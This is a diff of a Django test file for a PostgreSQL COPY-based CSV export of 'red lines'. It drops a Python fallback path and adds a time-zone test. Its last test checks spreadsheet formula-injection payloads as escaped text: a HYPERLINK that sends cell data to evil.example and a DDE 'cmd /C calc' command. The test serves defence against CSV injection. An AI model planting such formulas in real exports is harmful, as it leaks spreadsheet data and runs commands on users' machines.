@@ -1,12 +1,12 @@
-"""The red lines' CSV: rendered by PostgreSQL (COPY) or from flat rows, byte for byte the serializers'."""
+"""The red lines' CSV: rendered by PostgreSQL (COPY), byte for byte the serializers'."""
 
 import datetime
 import tracemalloc
 
 import pytest
-from django.conf import settings
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
+from django.utils import timezone
 from rest_framework.test import APIClient
 
 from api.renderers import csv_cell
@@ -62,13 +62,8 @@ def odd_lines() -> None:
     RedLine.objects.filter(pk=restating.pk).update(status_changed_on=datetime.date(2020, 1, 2))
 
 
-def python_path(monkeypatch) -> None:
-    monkeypatch.setattr(RedLineViewSet, "export_csv_chunks", None)
-
-
 def serializer_path(monkeypatch) -> None:
-    python_path(monkeypatch)
-    monkeypatch.setattr(RedLineViewSet, "export_flat_rows", None)
+    monkeypatch.setattr(RedLineViewSet, "export_csv_chunks", None)
 
 
 @pytest.mark.usefixtures("fixed_day")
@@ -79,14 +74,13 @@ def test_csv_bytes_are_the_serializers_bytes(query, monkeypatch):
     monkeypatch.setattr(red_line_csv, "BATCH", 7)  # several batches, keyset across ties
     url = f"/api/v1/red-lines/?format=csv&{query}"
     fast, sql = fetch(url)
-    # PostgreSQL renders the CSV itself (keyset reads, then a COPY per batch); SQLite keeps the Python path.
-    assert any("_csv_k0" in s for s in sql) == settings.IS_POSTGRES
-    assert any(s.startswith("COPY (") for s in sql) == (settings.IS_POSTGRES and "nothing" not in query)
-    python_path(monkeypatch)
-    flat, flat_sql = fetch(url)
-    assert not any(s.startswith("COPY") for s in flat_sql)
+    # PostgreSQL renders the CSV itself: keyset reads, then a COPY per batch.
+    assert any("_csv_k0" in s for s in sql)
+    assert any(s.startswith("COPY (") for s in sql) == ("nothing" not in query)
     serializer_path(monkeypatch)
-    assert fast == flat == fetch(url)[0]
+    slow, slow_sql = fetch(url)
+    assert not any(s.startswith("COPY") for s in slow_sql)
+    assert fast == slow
     assert fast.startswith(b"slug,title,declared_by,") and fast.endswith(b"\r\n")
     if "nothing-matches" in query:
         assert fast.count(b"\r\n") == 1
@@ -103,8 +97,19 @@ def test_odd_values_are_quoted_as_pythons_csv_writer_does(monkeypatch):
     assert b'"missiles, long-range; say ""no""; \xc3\xa9migr\xc3\xa9"' in fast
     assert b"alpha; odd-one; zulu" in fast
     assert b"; Pasted, as text" in fast
-    python_path(monkeypatch)
+    serializer_path(monkeypatch)
     assert fast == fetch("/api/v1/red-lines/?format=csv&addressee=odd-one")[0]
+
+
+def test_under_another_time_zone_the_serializers_write_the_csv(monkeypatch):
+    """COPY writes UTC; the product never leaves UTC, but if a zone were active the bytes stay right."""
+    odd_lines()
+    with timezone.override("Europe/Paris"):
+        body, sql = fetch("/api/v1/red-lines/?format=csv")
+        assert not any(s.startswith("COPY") for s in sql)
+        assert b"+01:00," in body or b"+02:00," in body
+        serializer_path(monkeypatch)
+        assert fetch("/api/v1/red-lines/?format=csv")[0] == body
 
 
 def test_crlf_keeps_newlines_inside_quoted_cells():
@@ -113,7 +118,6 @@ def test_crlf_keeps_newlines_inside_quoted_cells():
 
 
 @pytest.mark.usefixtures("fixed_day")
-@pytest.mark.skipif(not settings.IS_POSTGRES, reason="COPY is PostgreSQL's")
 def test_two_queries_per_batch_whatever_the_size(monkeypatch):
     monkeypatch.setattr(red_line_csv, "BATCH", 50)
     synthetic_record_generate(actors=4, red_lines=60, events=50, seed=22)
@@ -129,7 +133,6 @@ def test_two_queries_per_batch_whatever_the_size(monkeypatch):
 
 
 @pytest.mark.usefixtures("fixed_day")
-@pytest.mark.skipif(not settings.IS_POSTGRES, reason="COPY is PostgreSQL's")
 def test_export_streams_one_chunk_per_batch_in_flat_memory(monkeypatch):
     monkeypatch.setattr(red_line_csv, "BATCH", 40)
     synthetic_record_generate(actors=4, red_lines=200, events=50, seed=24)
@@ -149,14 +152,6 @@ def test_export_streams_one_chunk_per_batch_in_flat_memory(monkeypatch):
     assert len(sizes) == -(-lines // 40) > 3
     # The peak while reading a batch stays within a few batches' bytes, however many batches there are.
     assert max(peaks) < 10 * max(sizes) + 2_000_000
-
-
-@pytest.mark.usefixtures("fixed_day")
-def test_python_path_reads_two_queries_per_thousand_lines(monkeypatch, django_assert_max_num_queries):
-    python_path(monkeypatch)
-    synthetic_record_generate(actors=4, red_lines=1200, events=100, seed=22)
-    with django_assert_max_num_queries(1 + 2 * 2):
-        fetch("/api/v1/red-lines/?format=csv")
 
 
 # --- errors and formats -------------------------------------------------------------------------
@@ -227,15 +222,13 @@ def formula_lines() -> None:
     EventFactory(red_line=line, summary="\r=carriage", kind="crossing")
 
 
-@pytest.mark.parametrize("path", ["copy", "flat rows", "serializers"])
+@pytest.mark.parametrize("path", ["copy", "serializers"])
 def test_csv_cells_that_start_a_formula_are_written_as_text_on_every_path(path, monkeypatch):
     formula_lines()
-    if path == "flat rows":
-        python_path(monkeypatch)
-    elif path == "serializers":
+    if path == "serializers":
         serializer_path(monkeypatch)
     body, sql = fetch("/api/v1/red-lines/?format=csv")
-    assert any(s.startswith("COPY (") for s in sql) == (path == "copy" and settings.IS_POSTGRES)
+    assert any(s.startswith("COPY (") for s in sql) == (path == "copy")
     text = body.decode()
     assert '\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")' in text
     assert ",'-cmd,'=cmd|' /C calc'!A0," in text
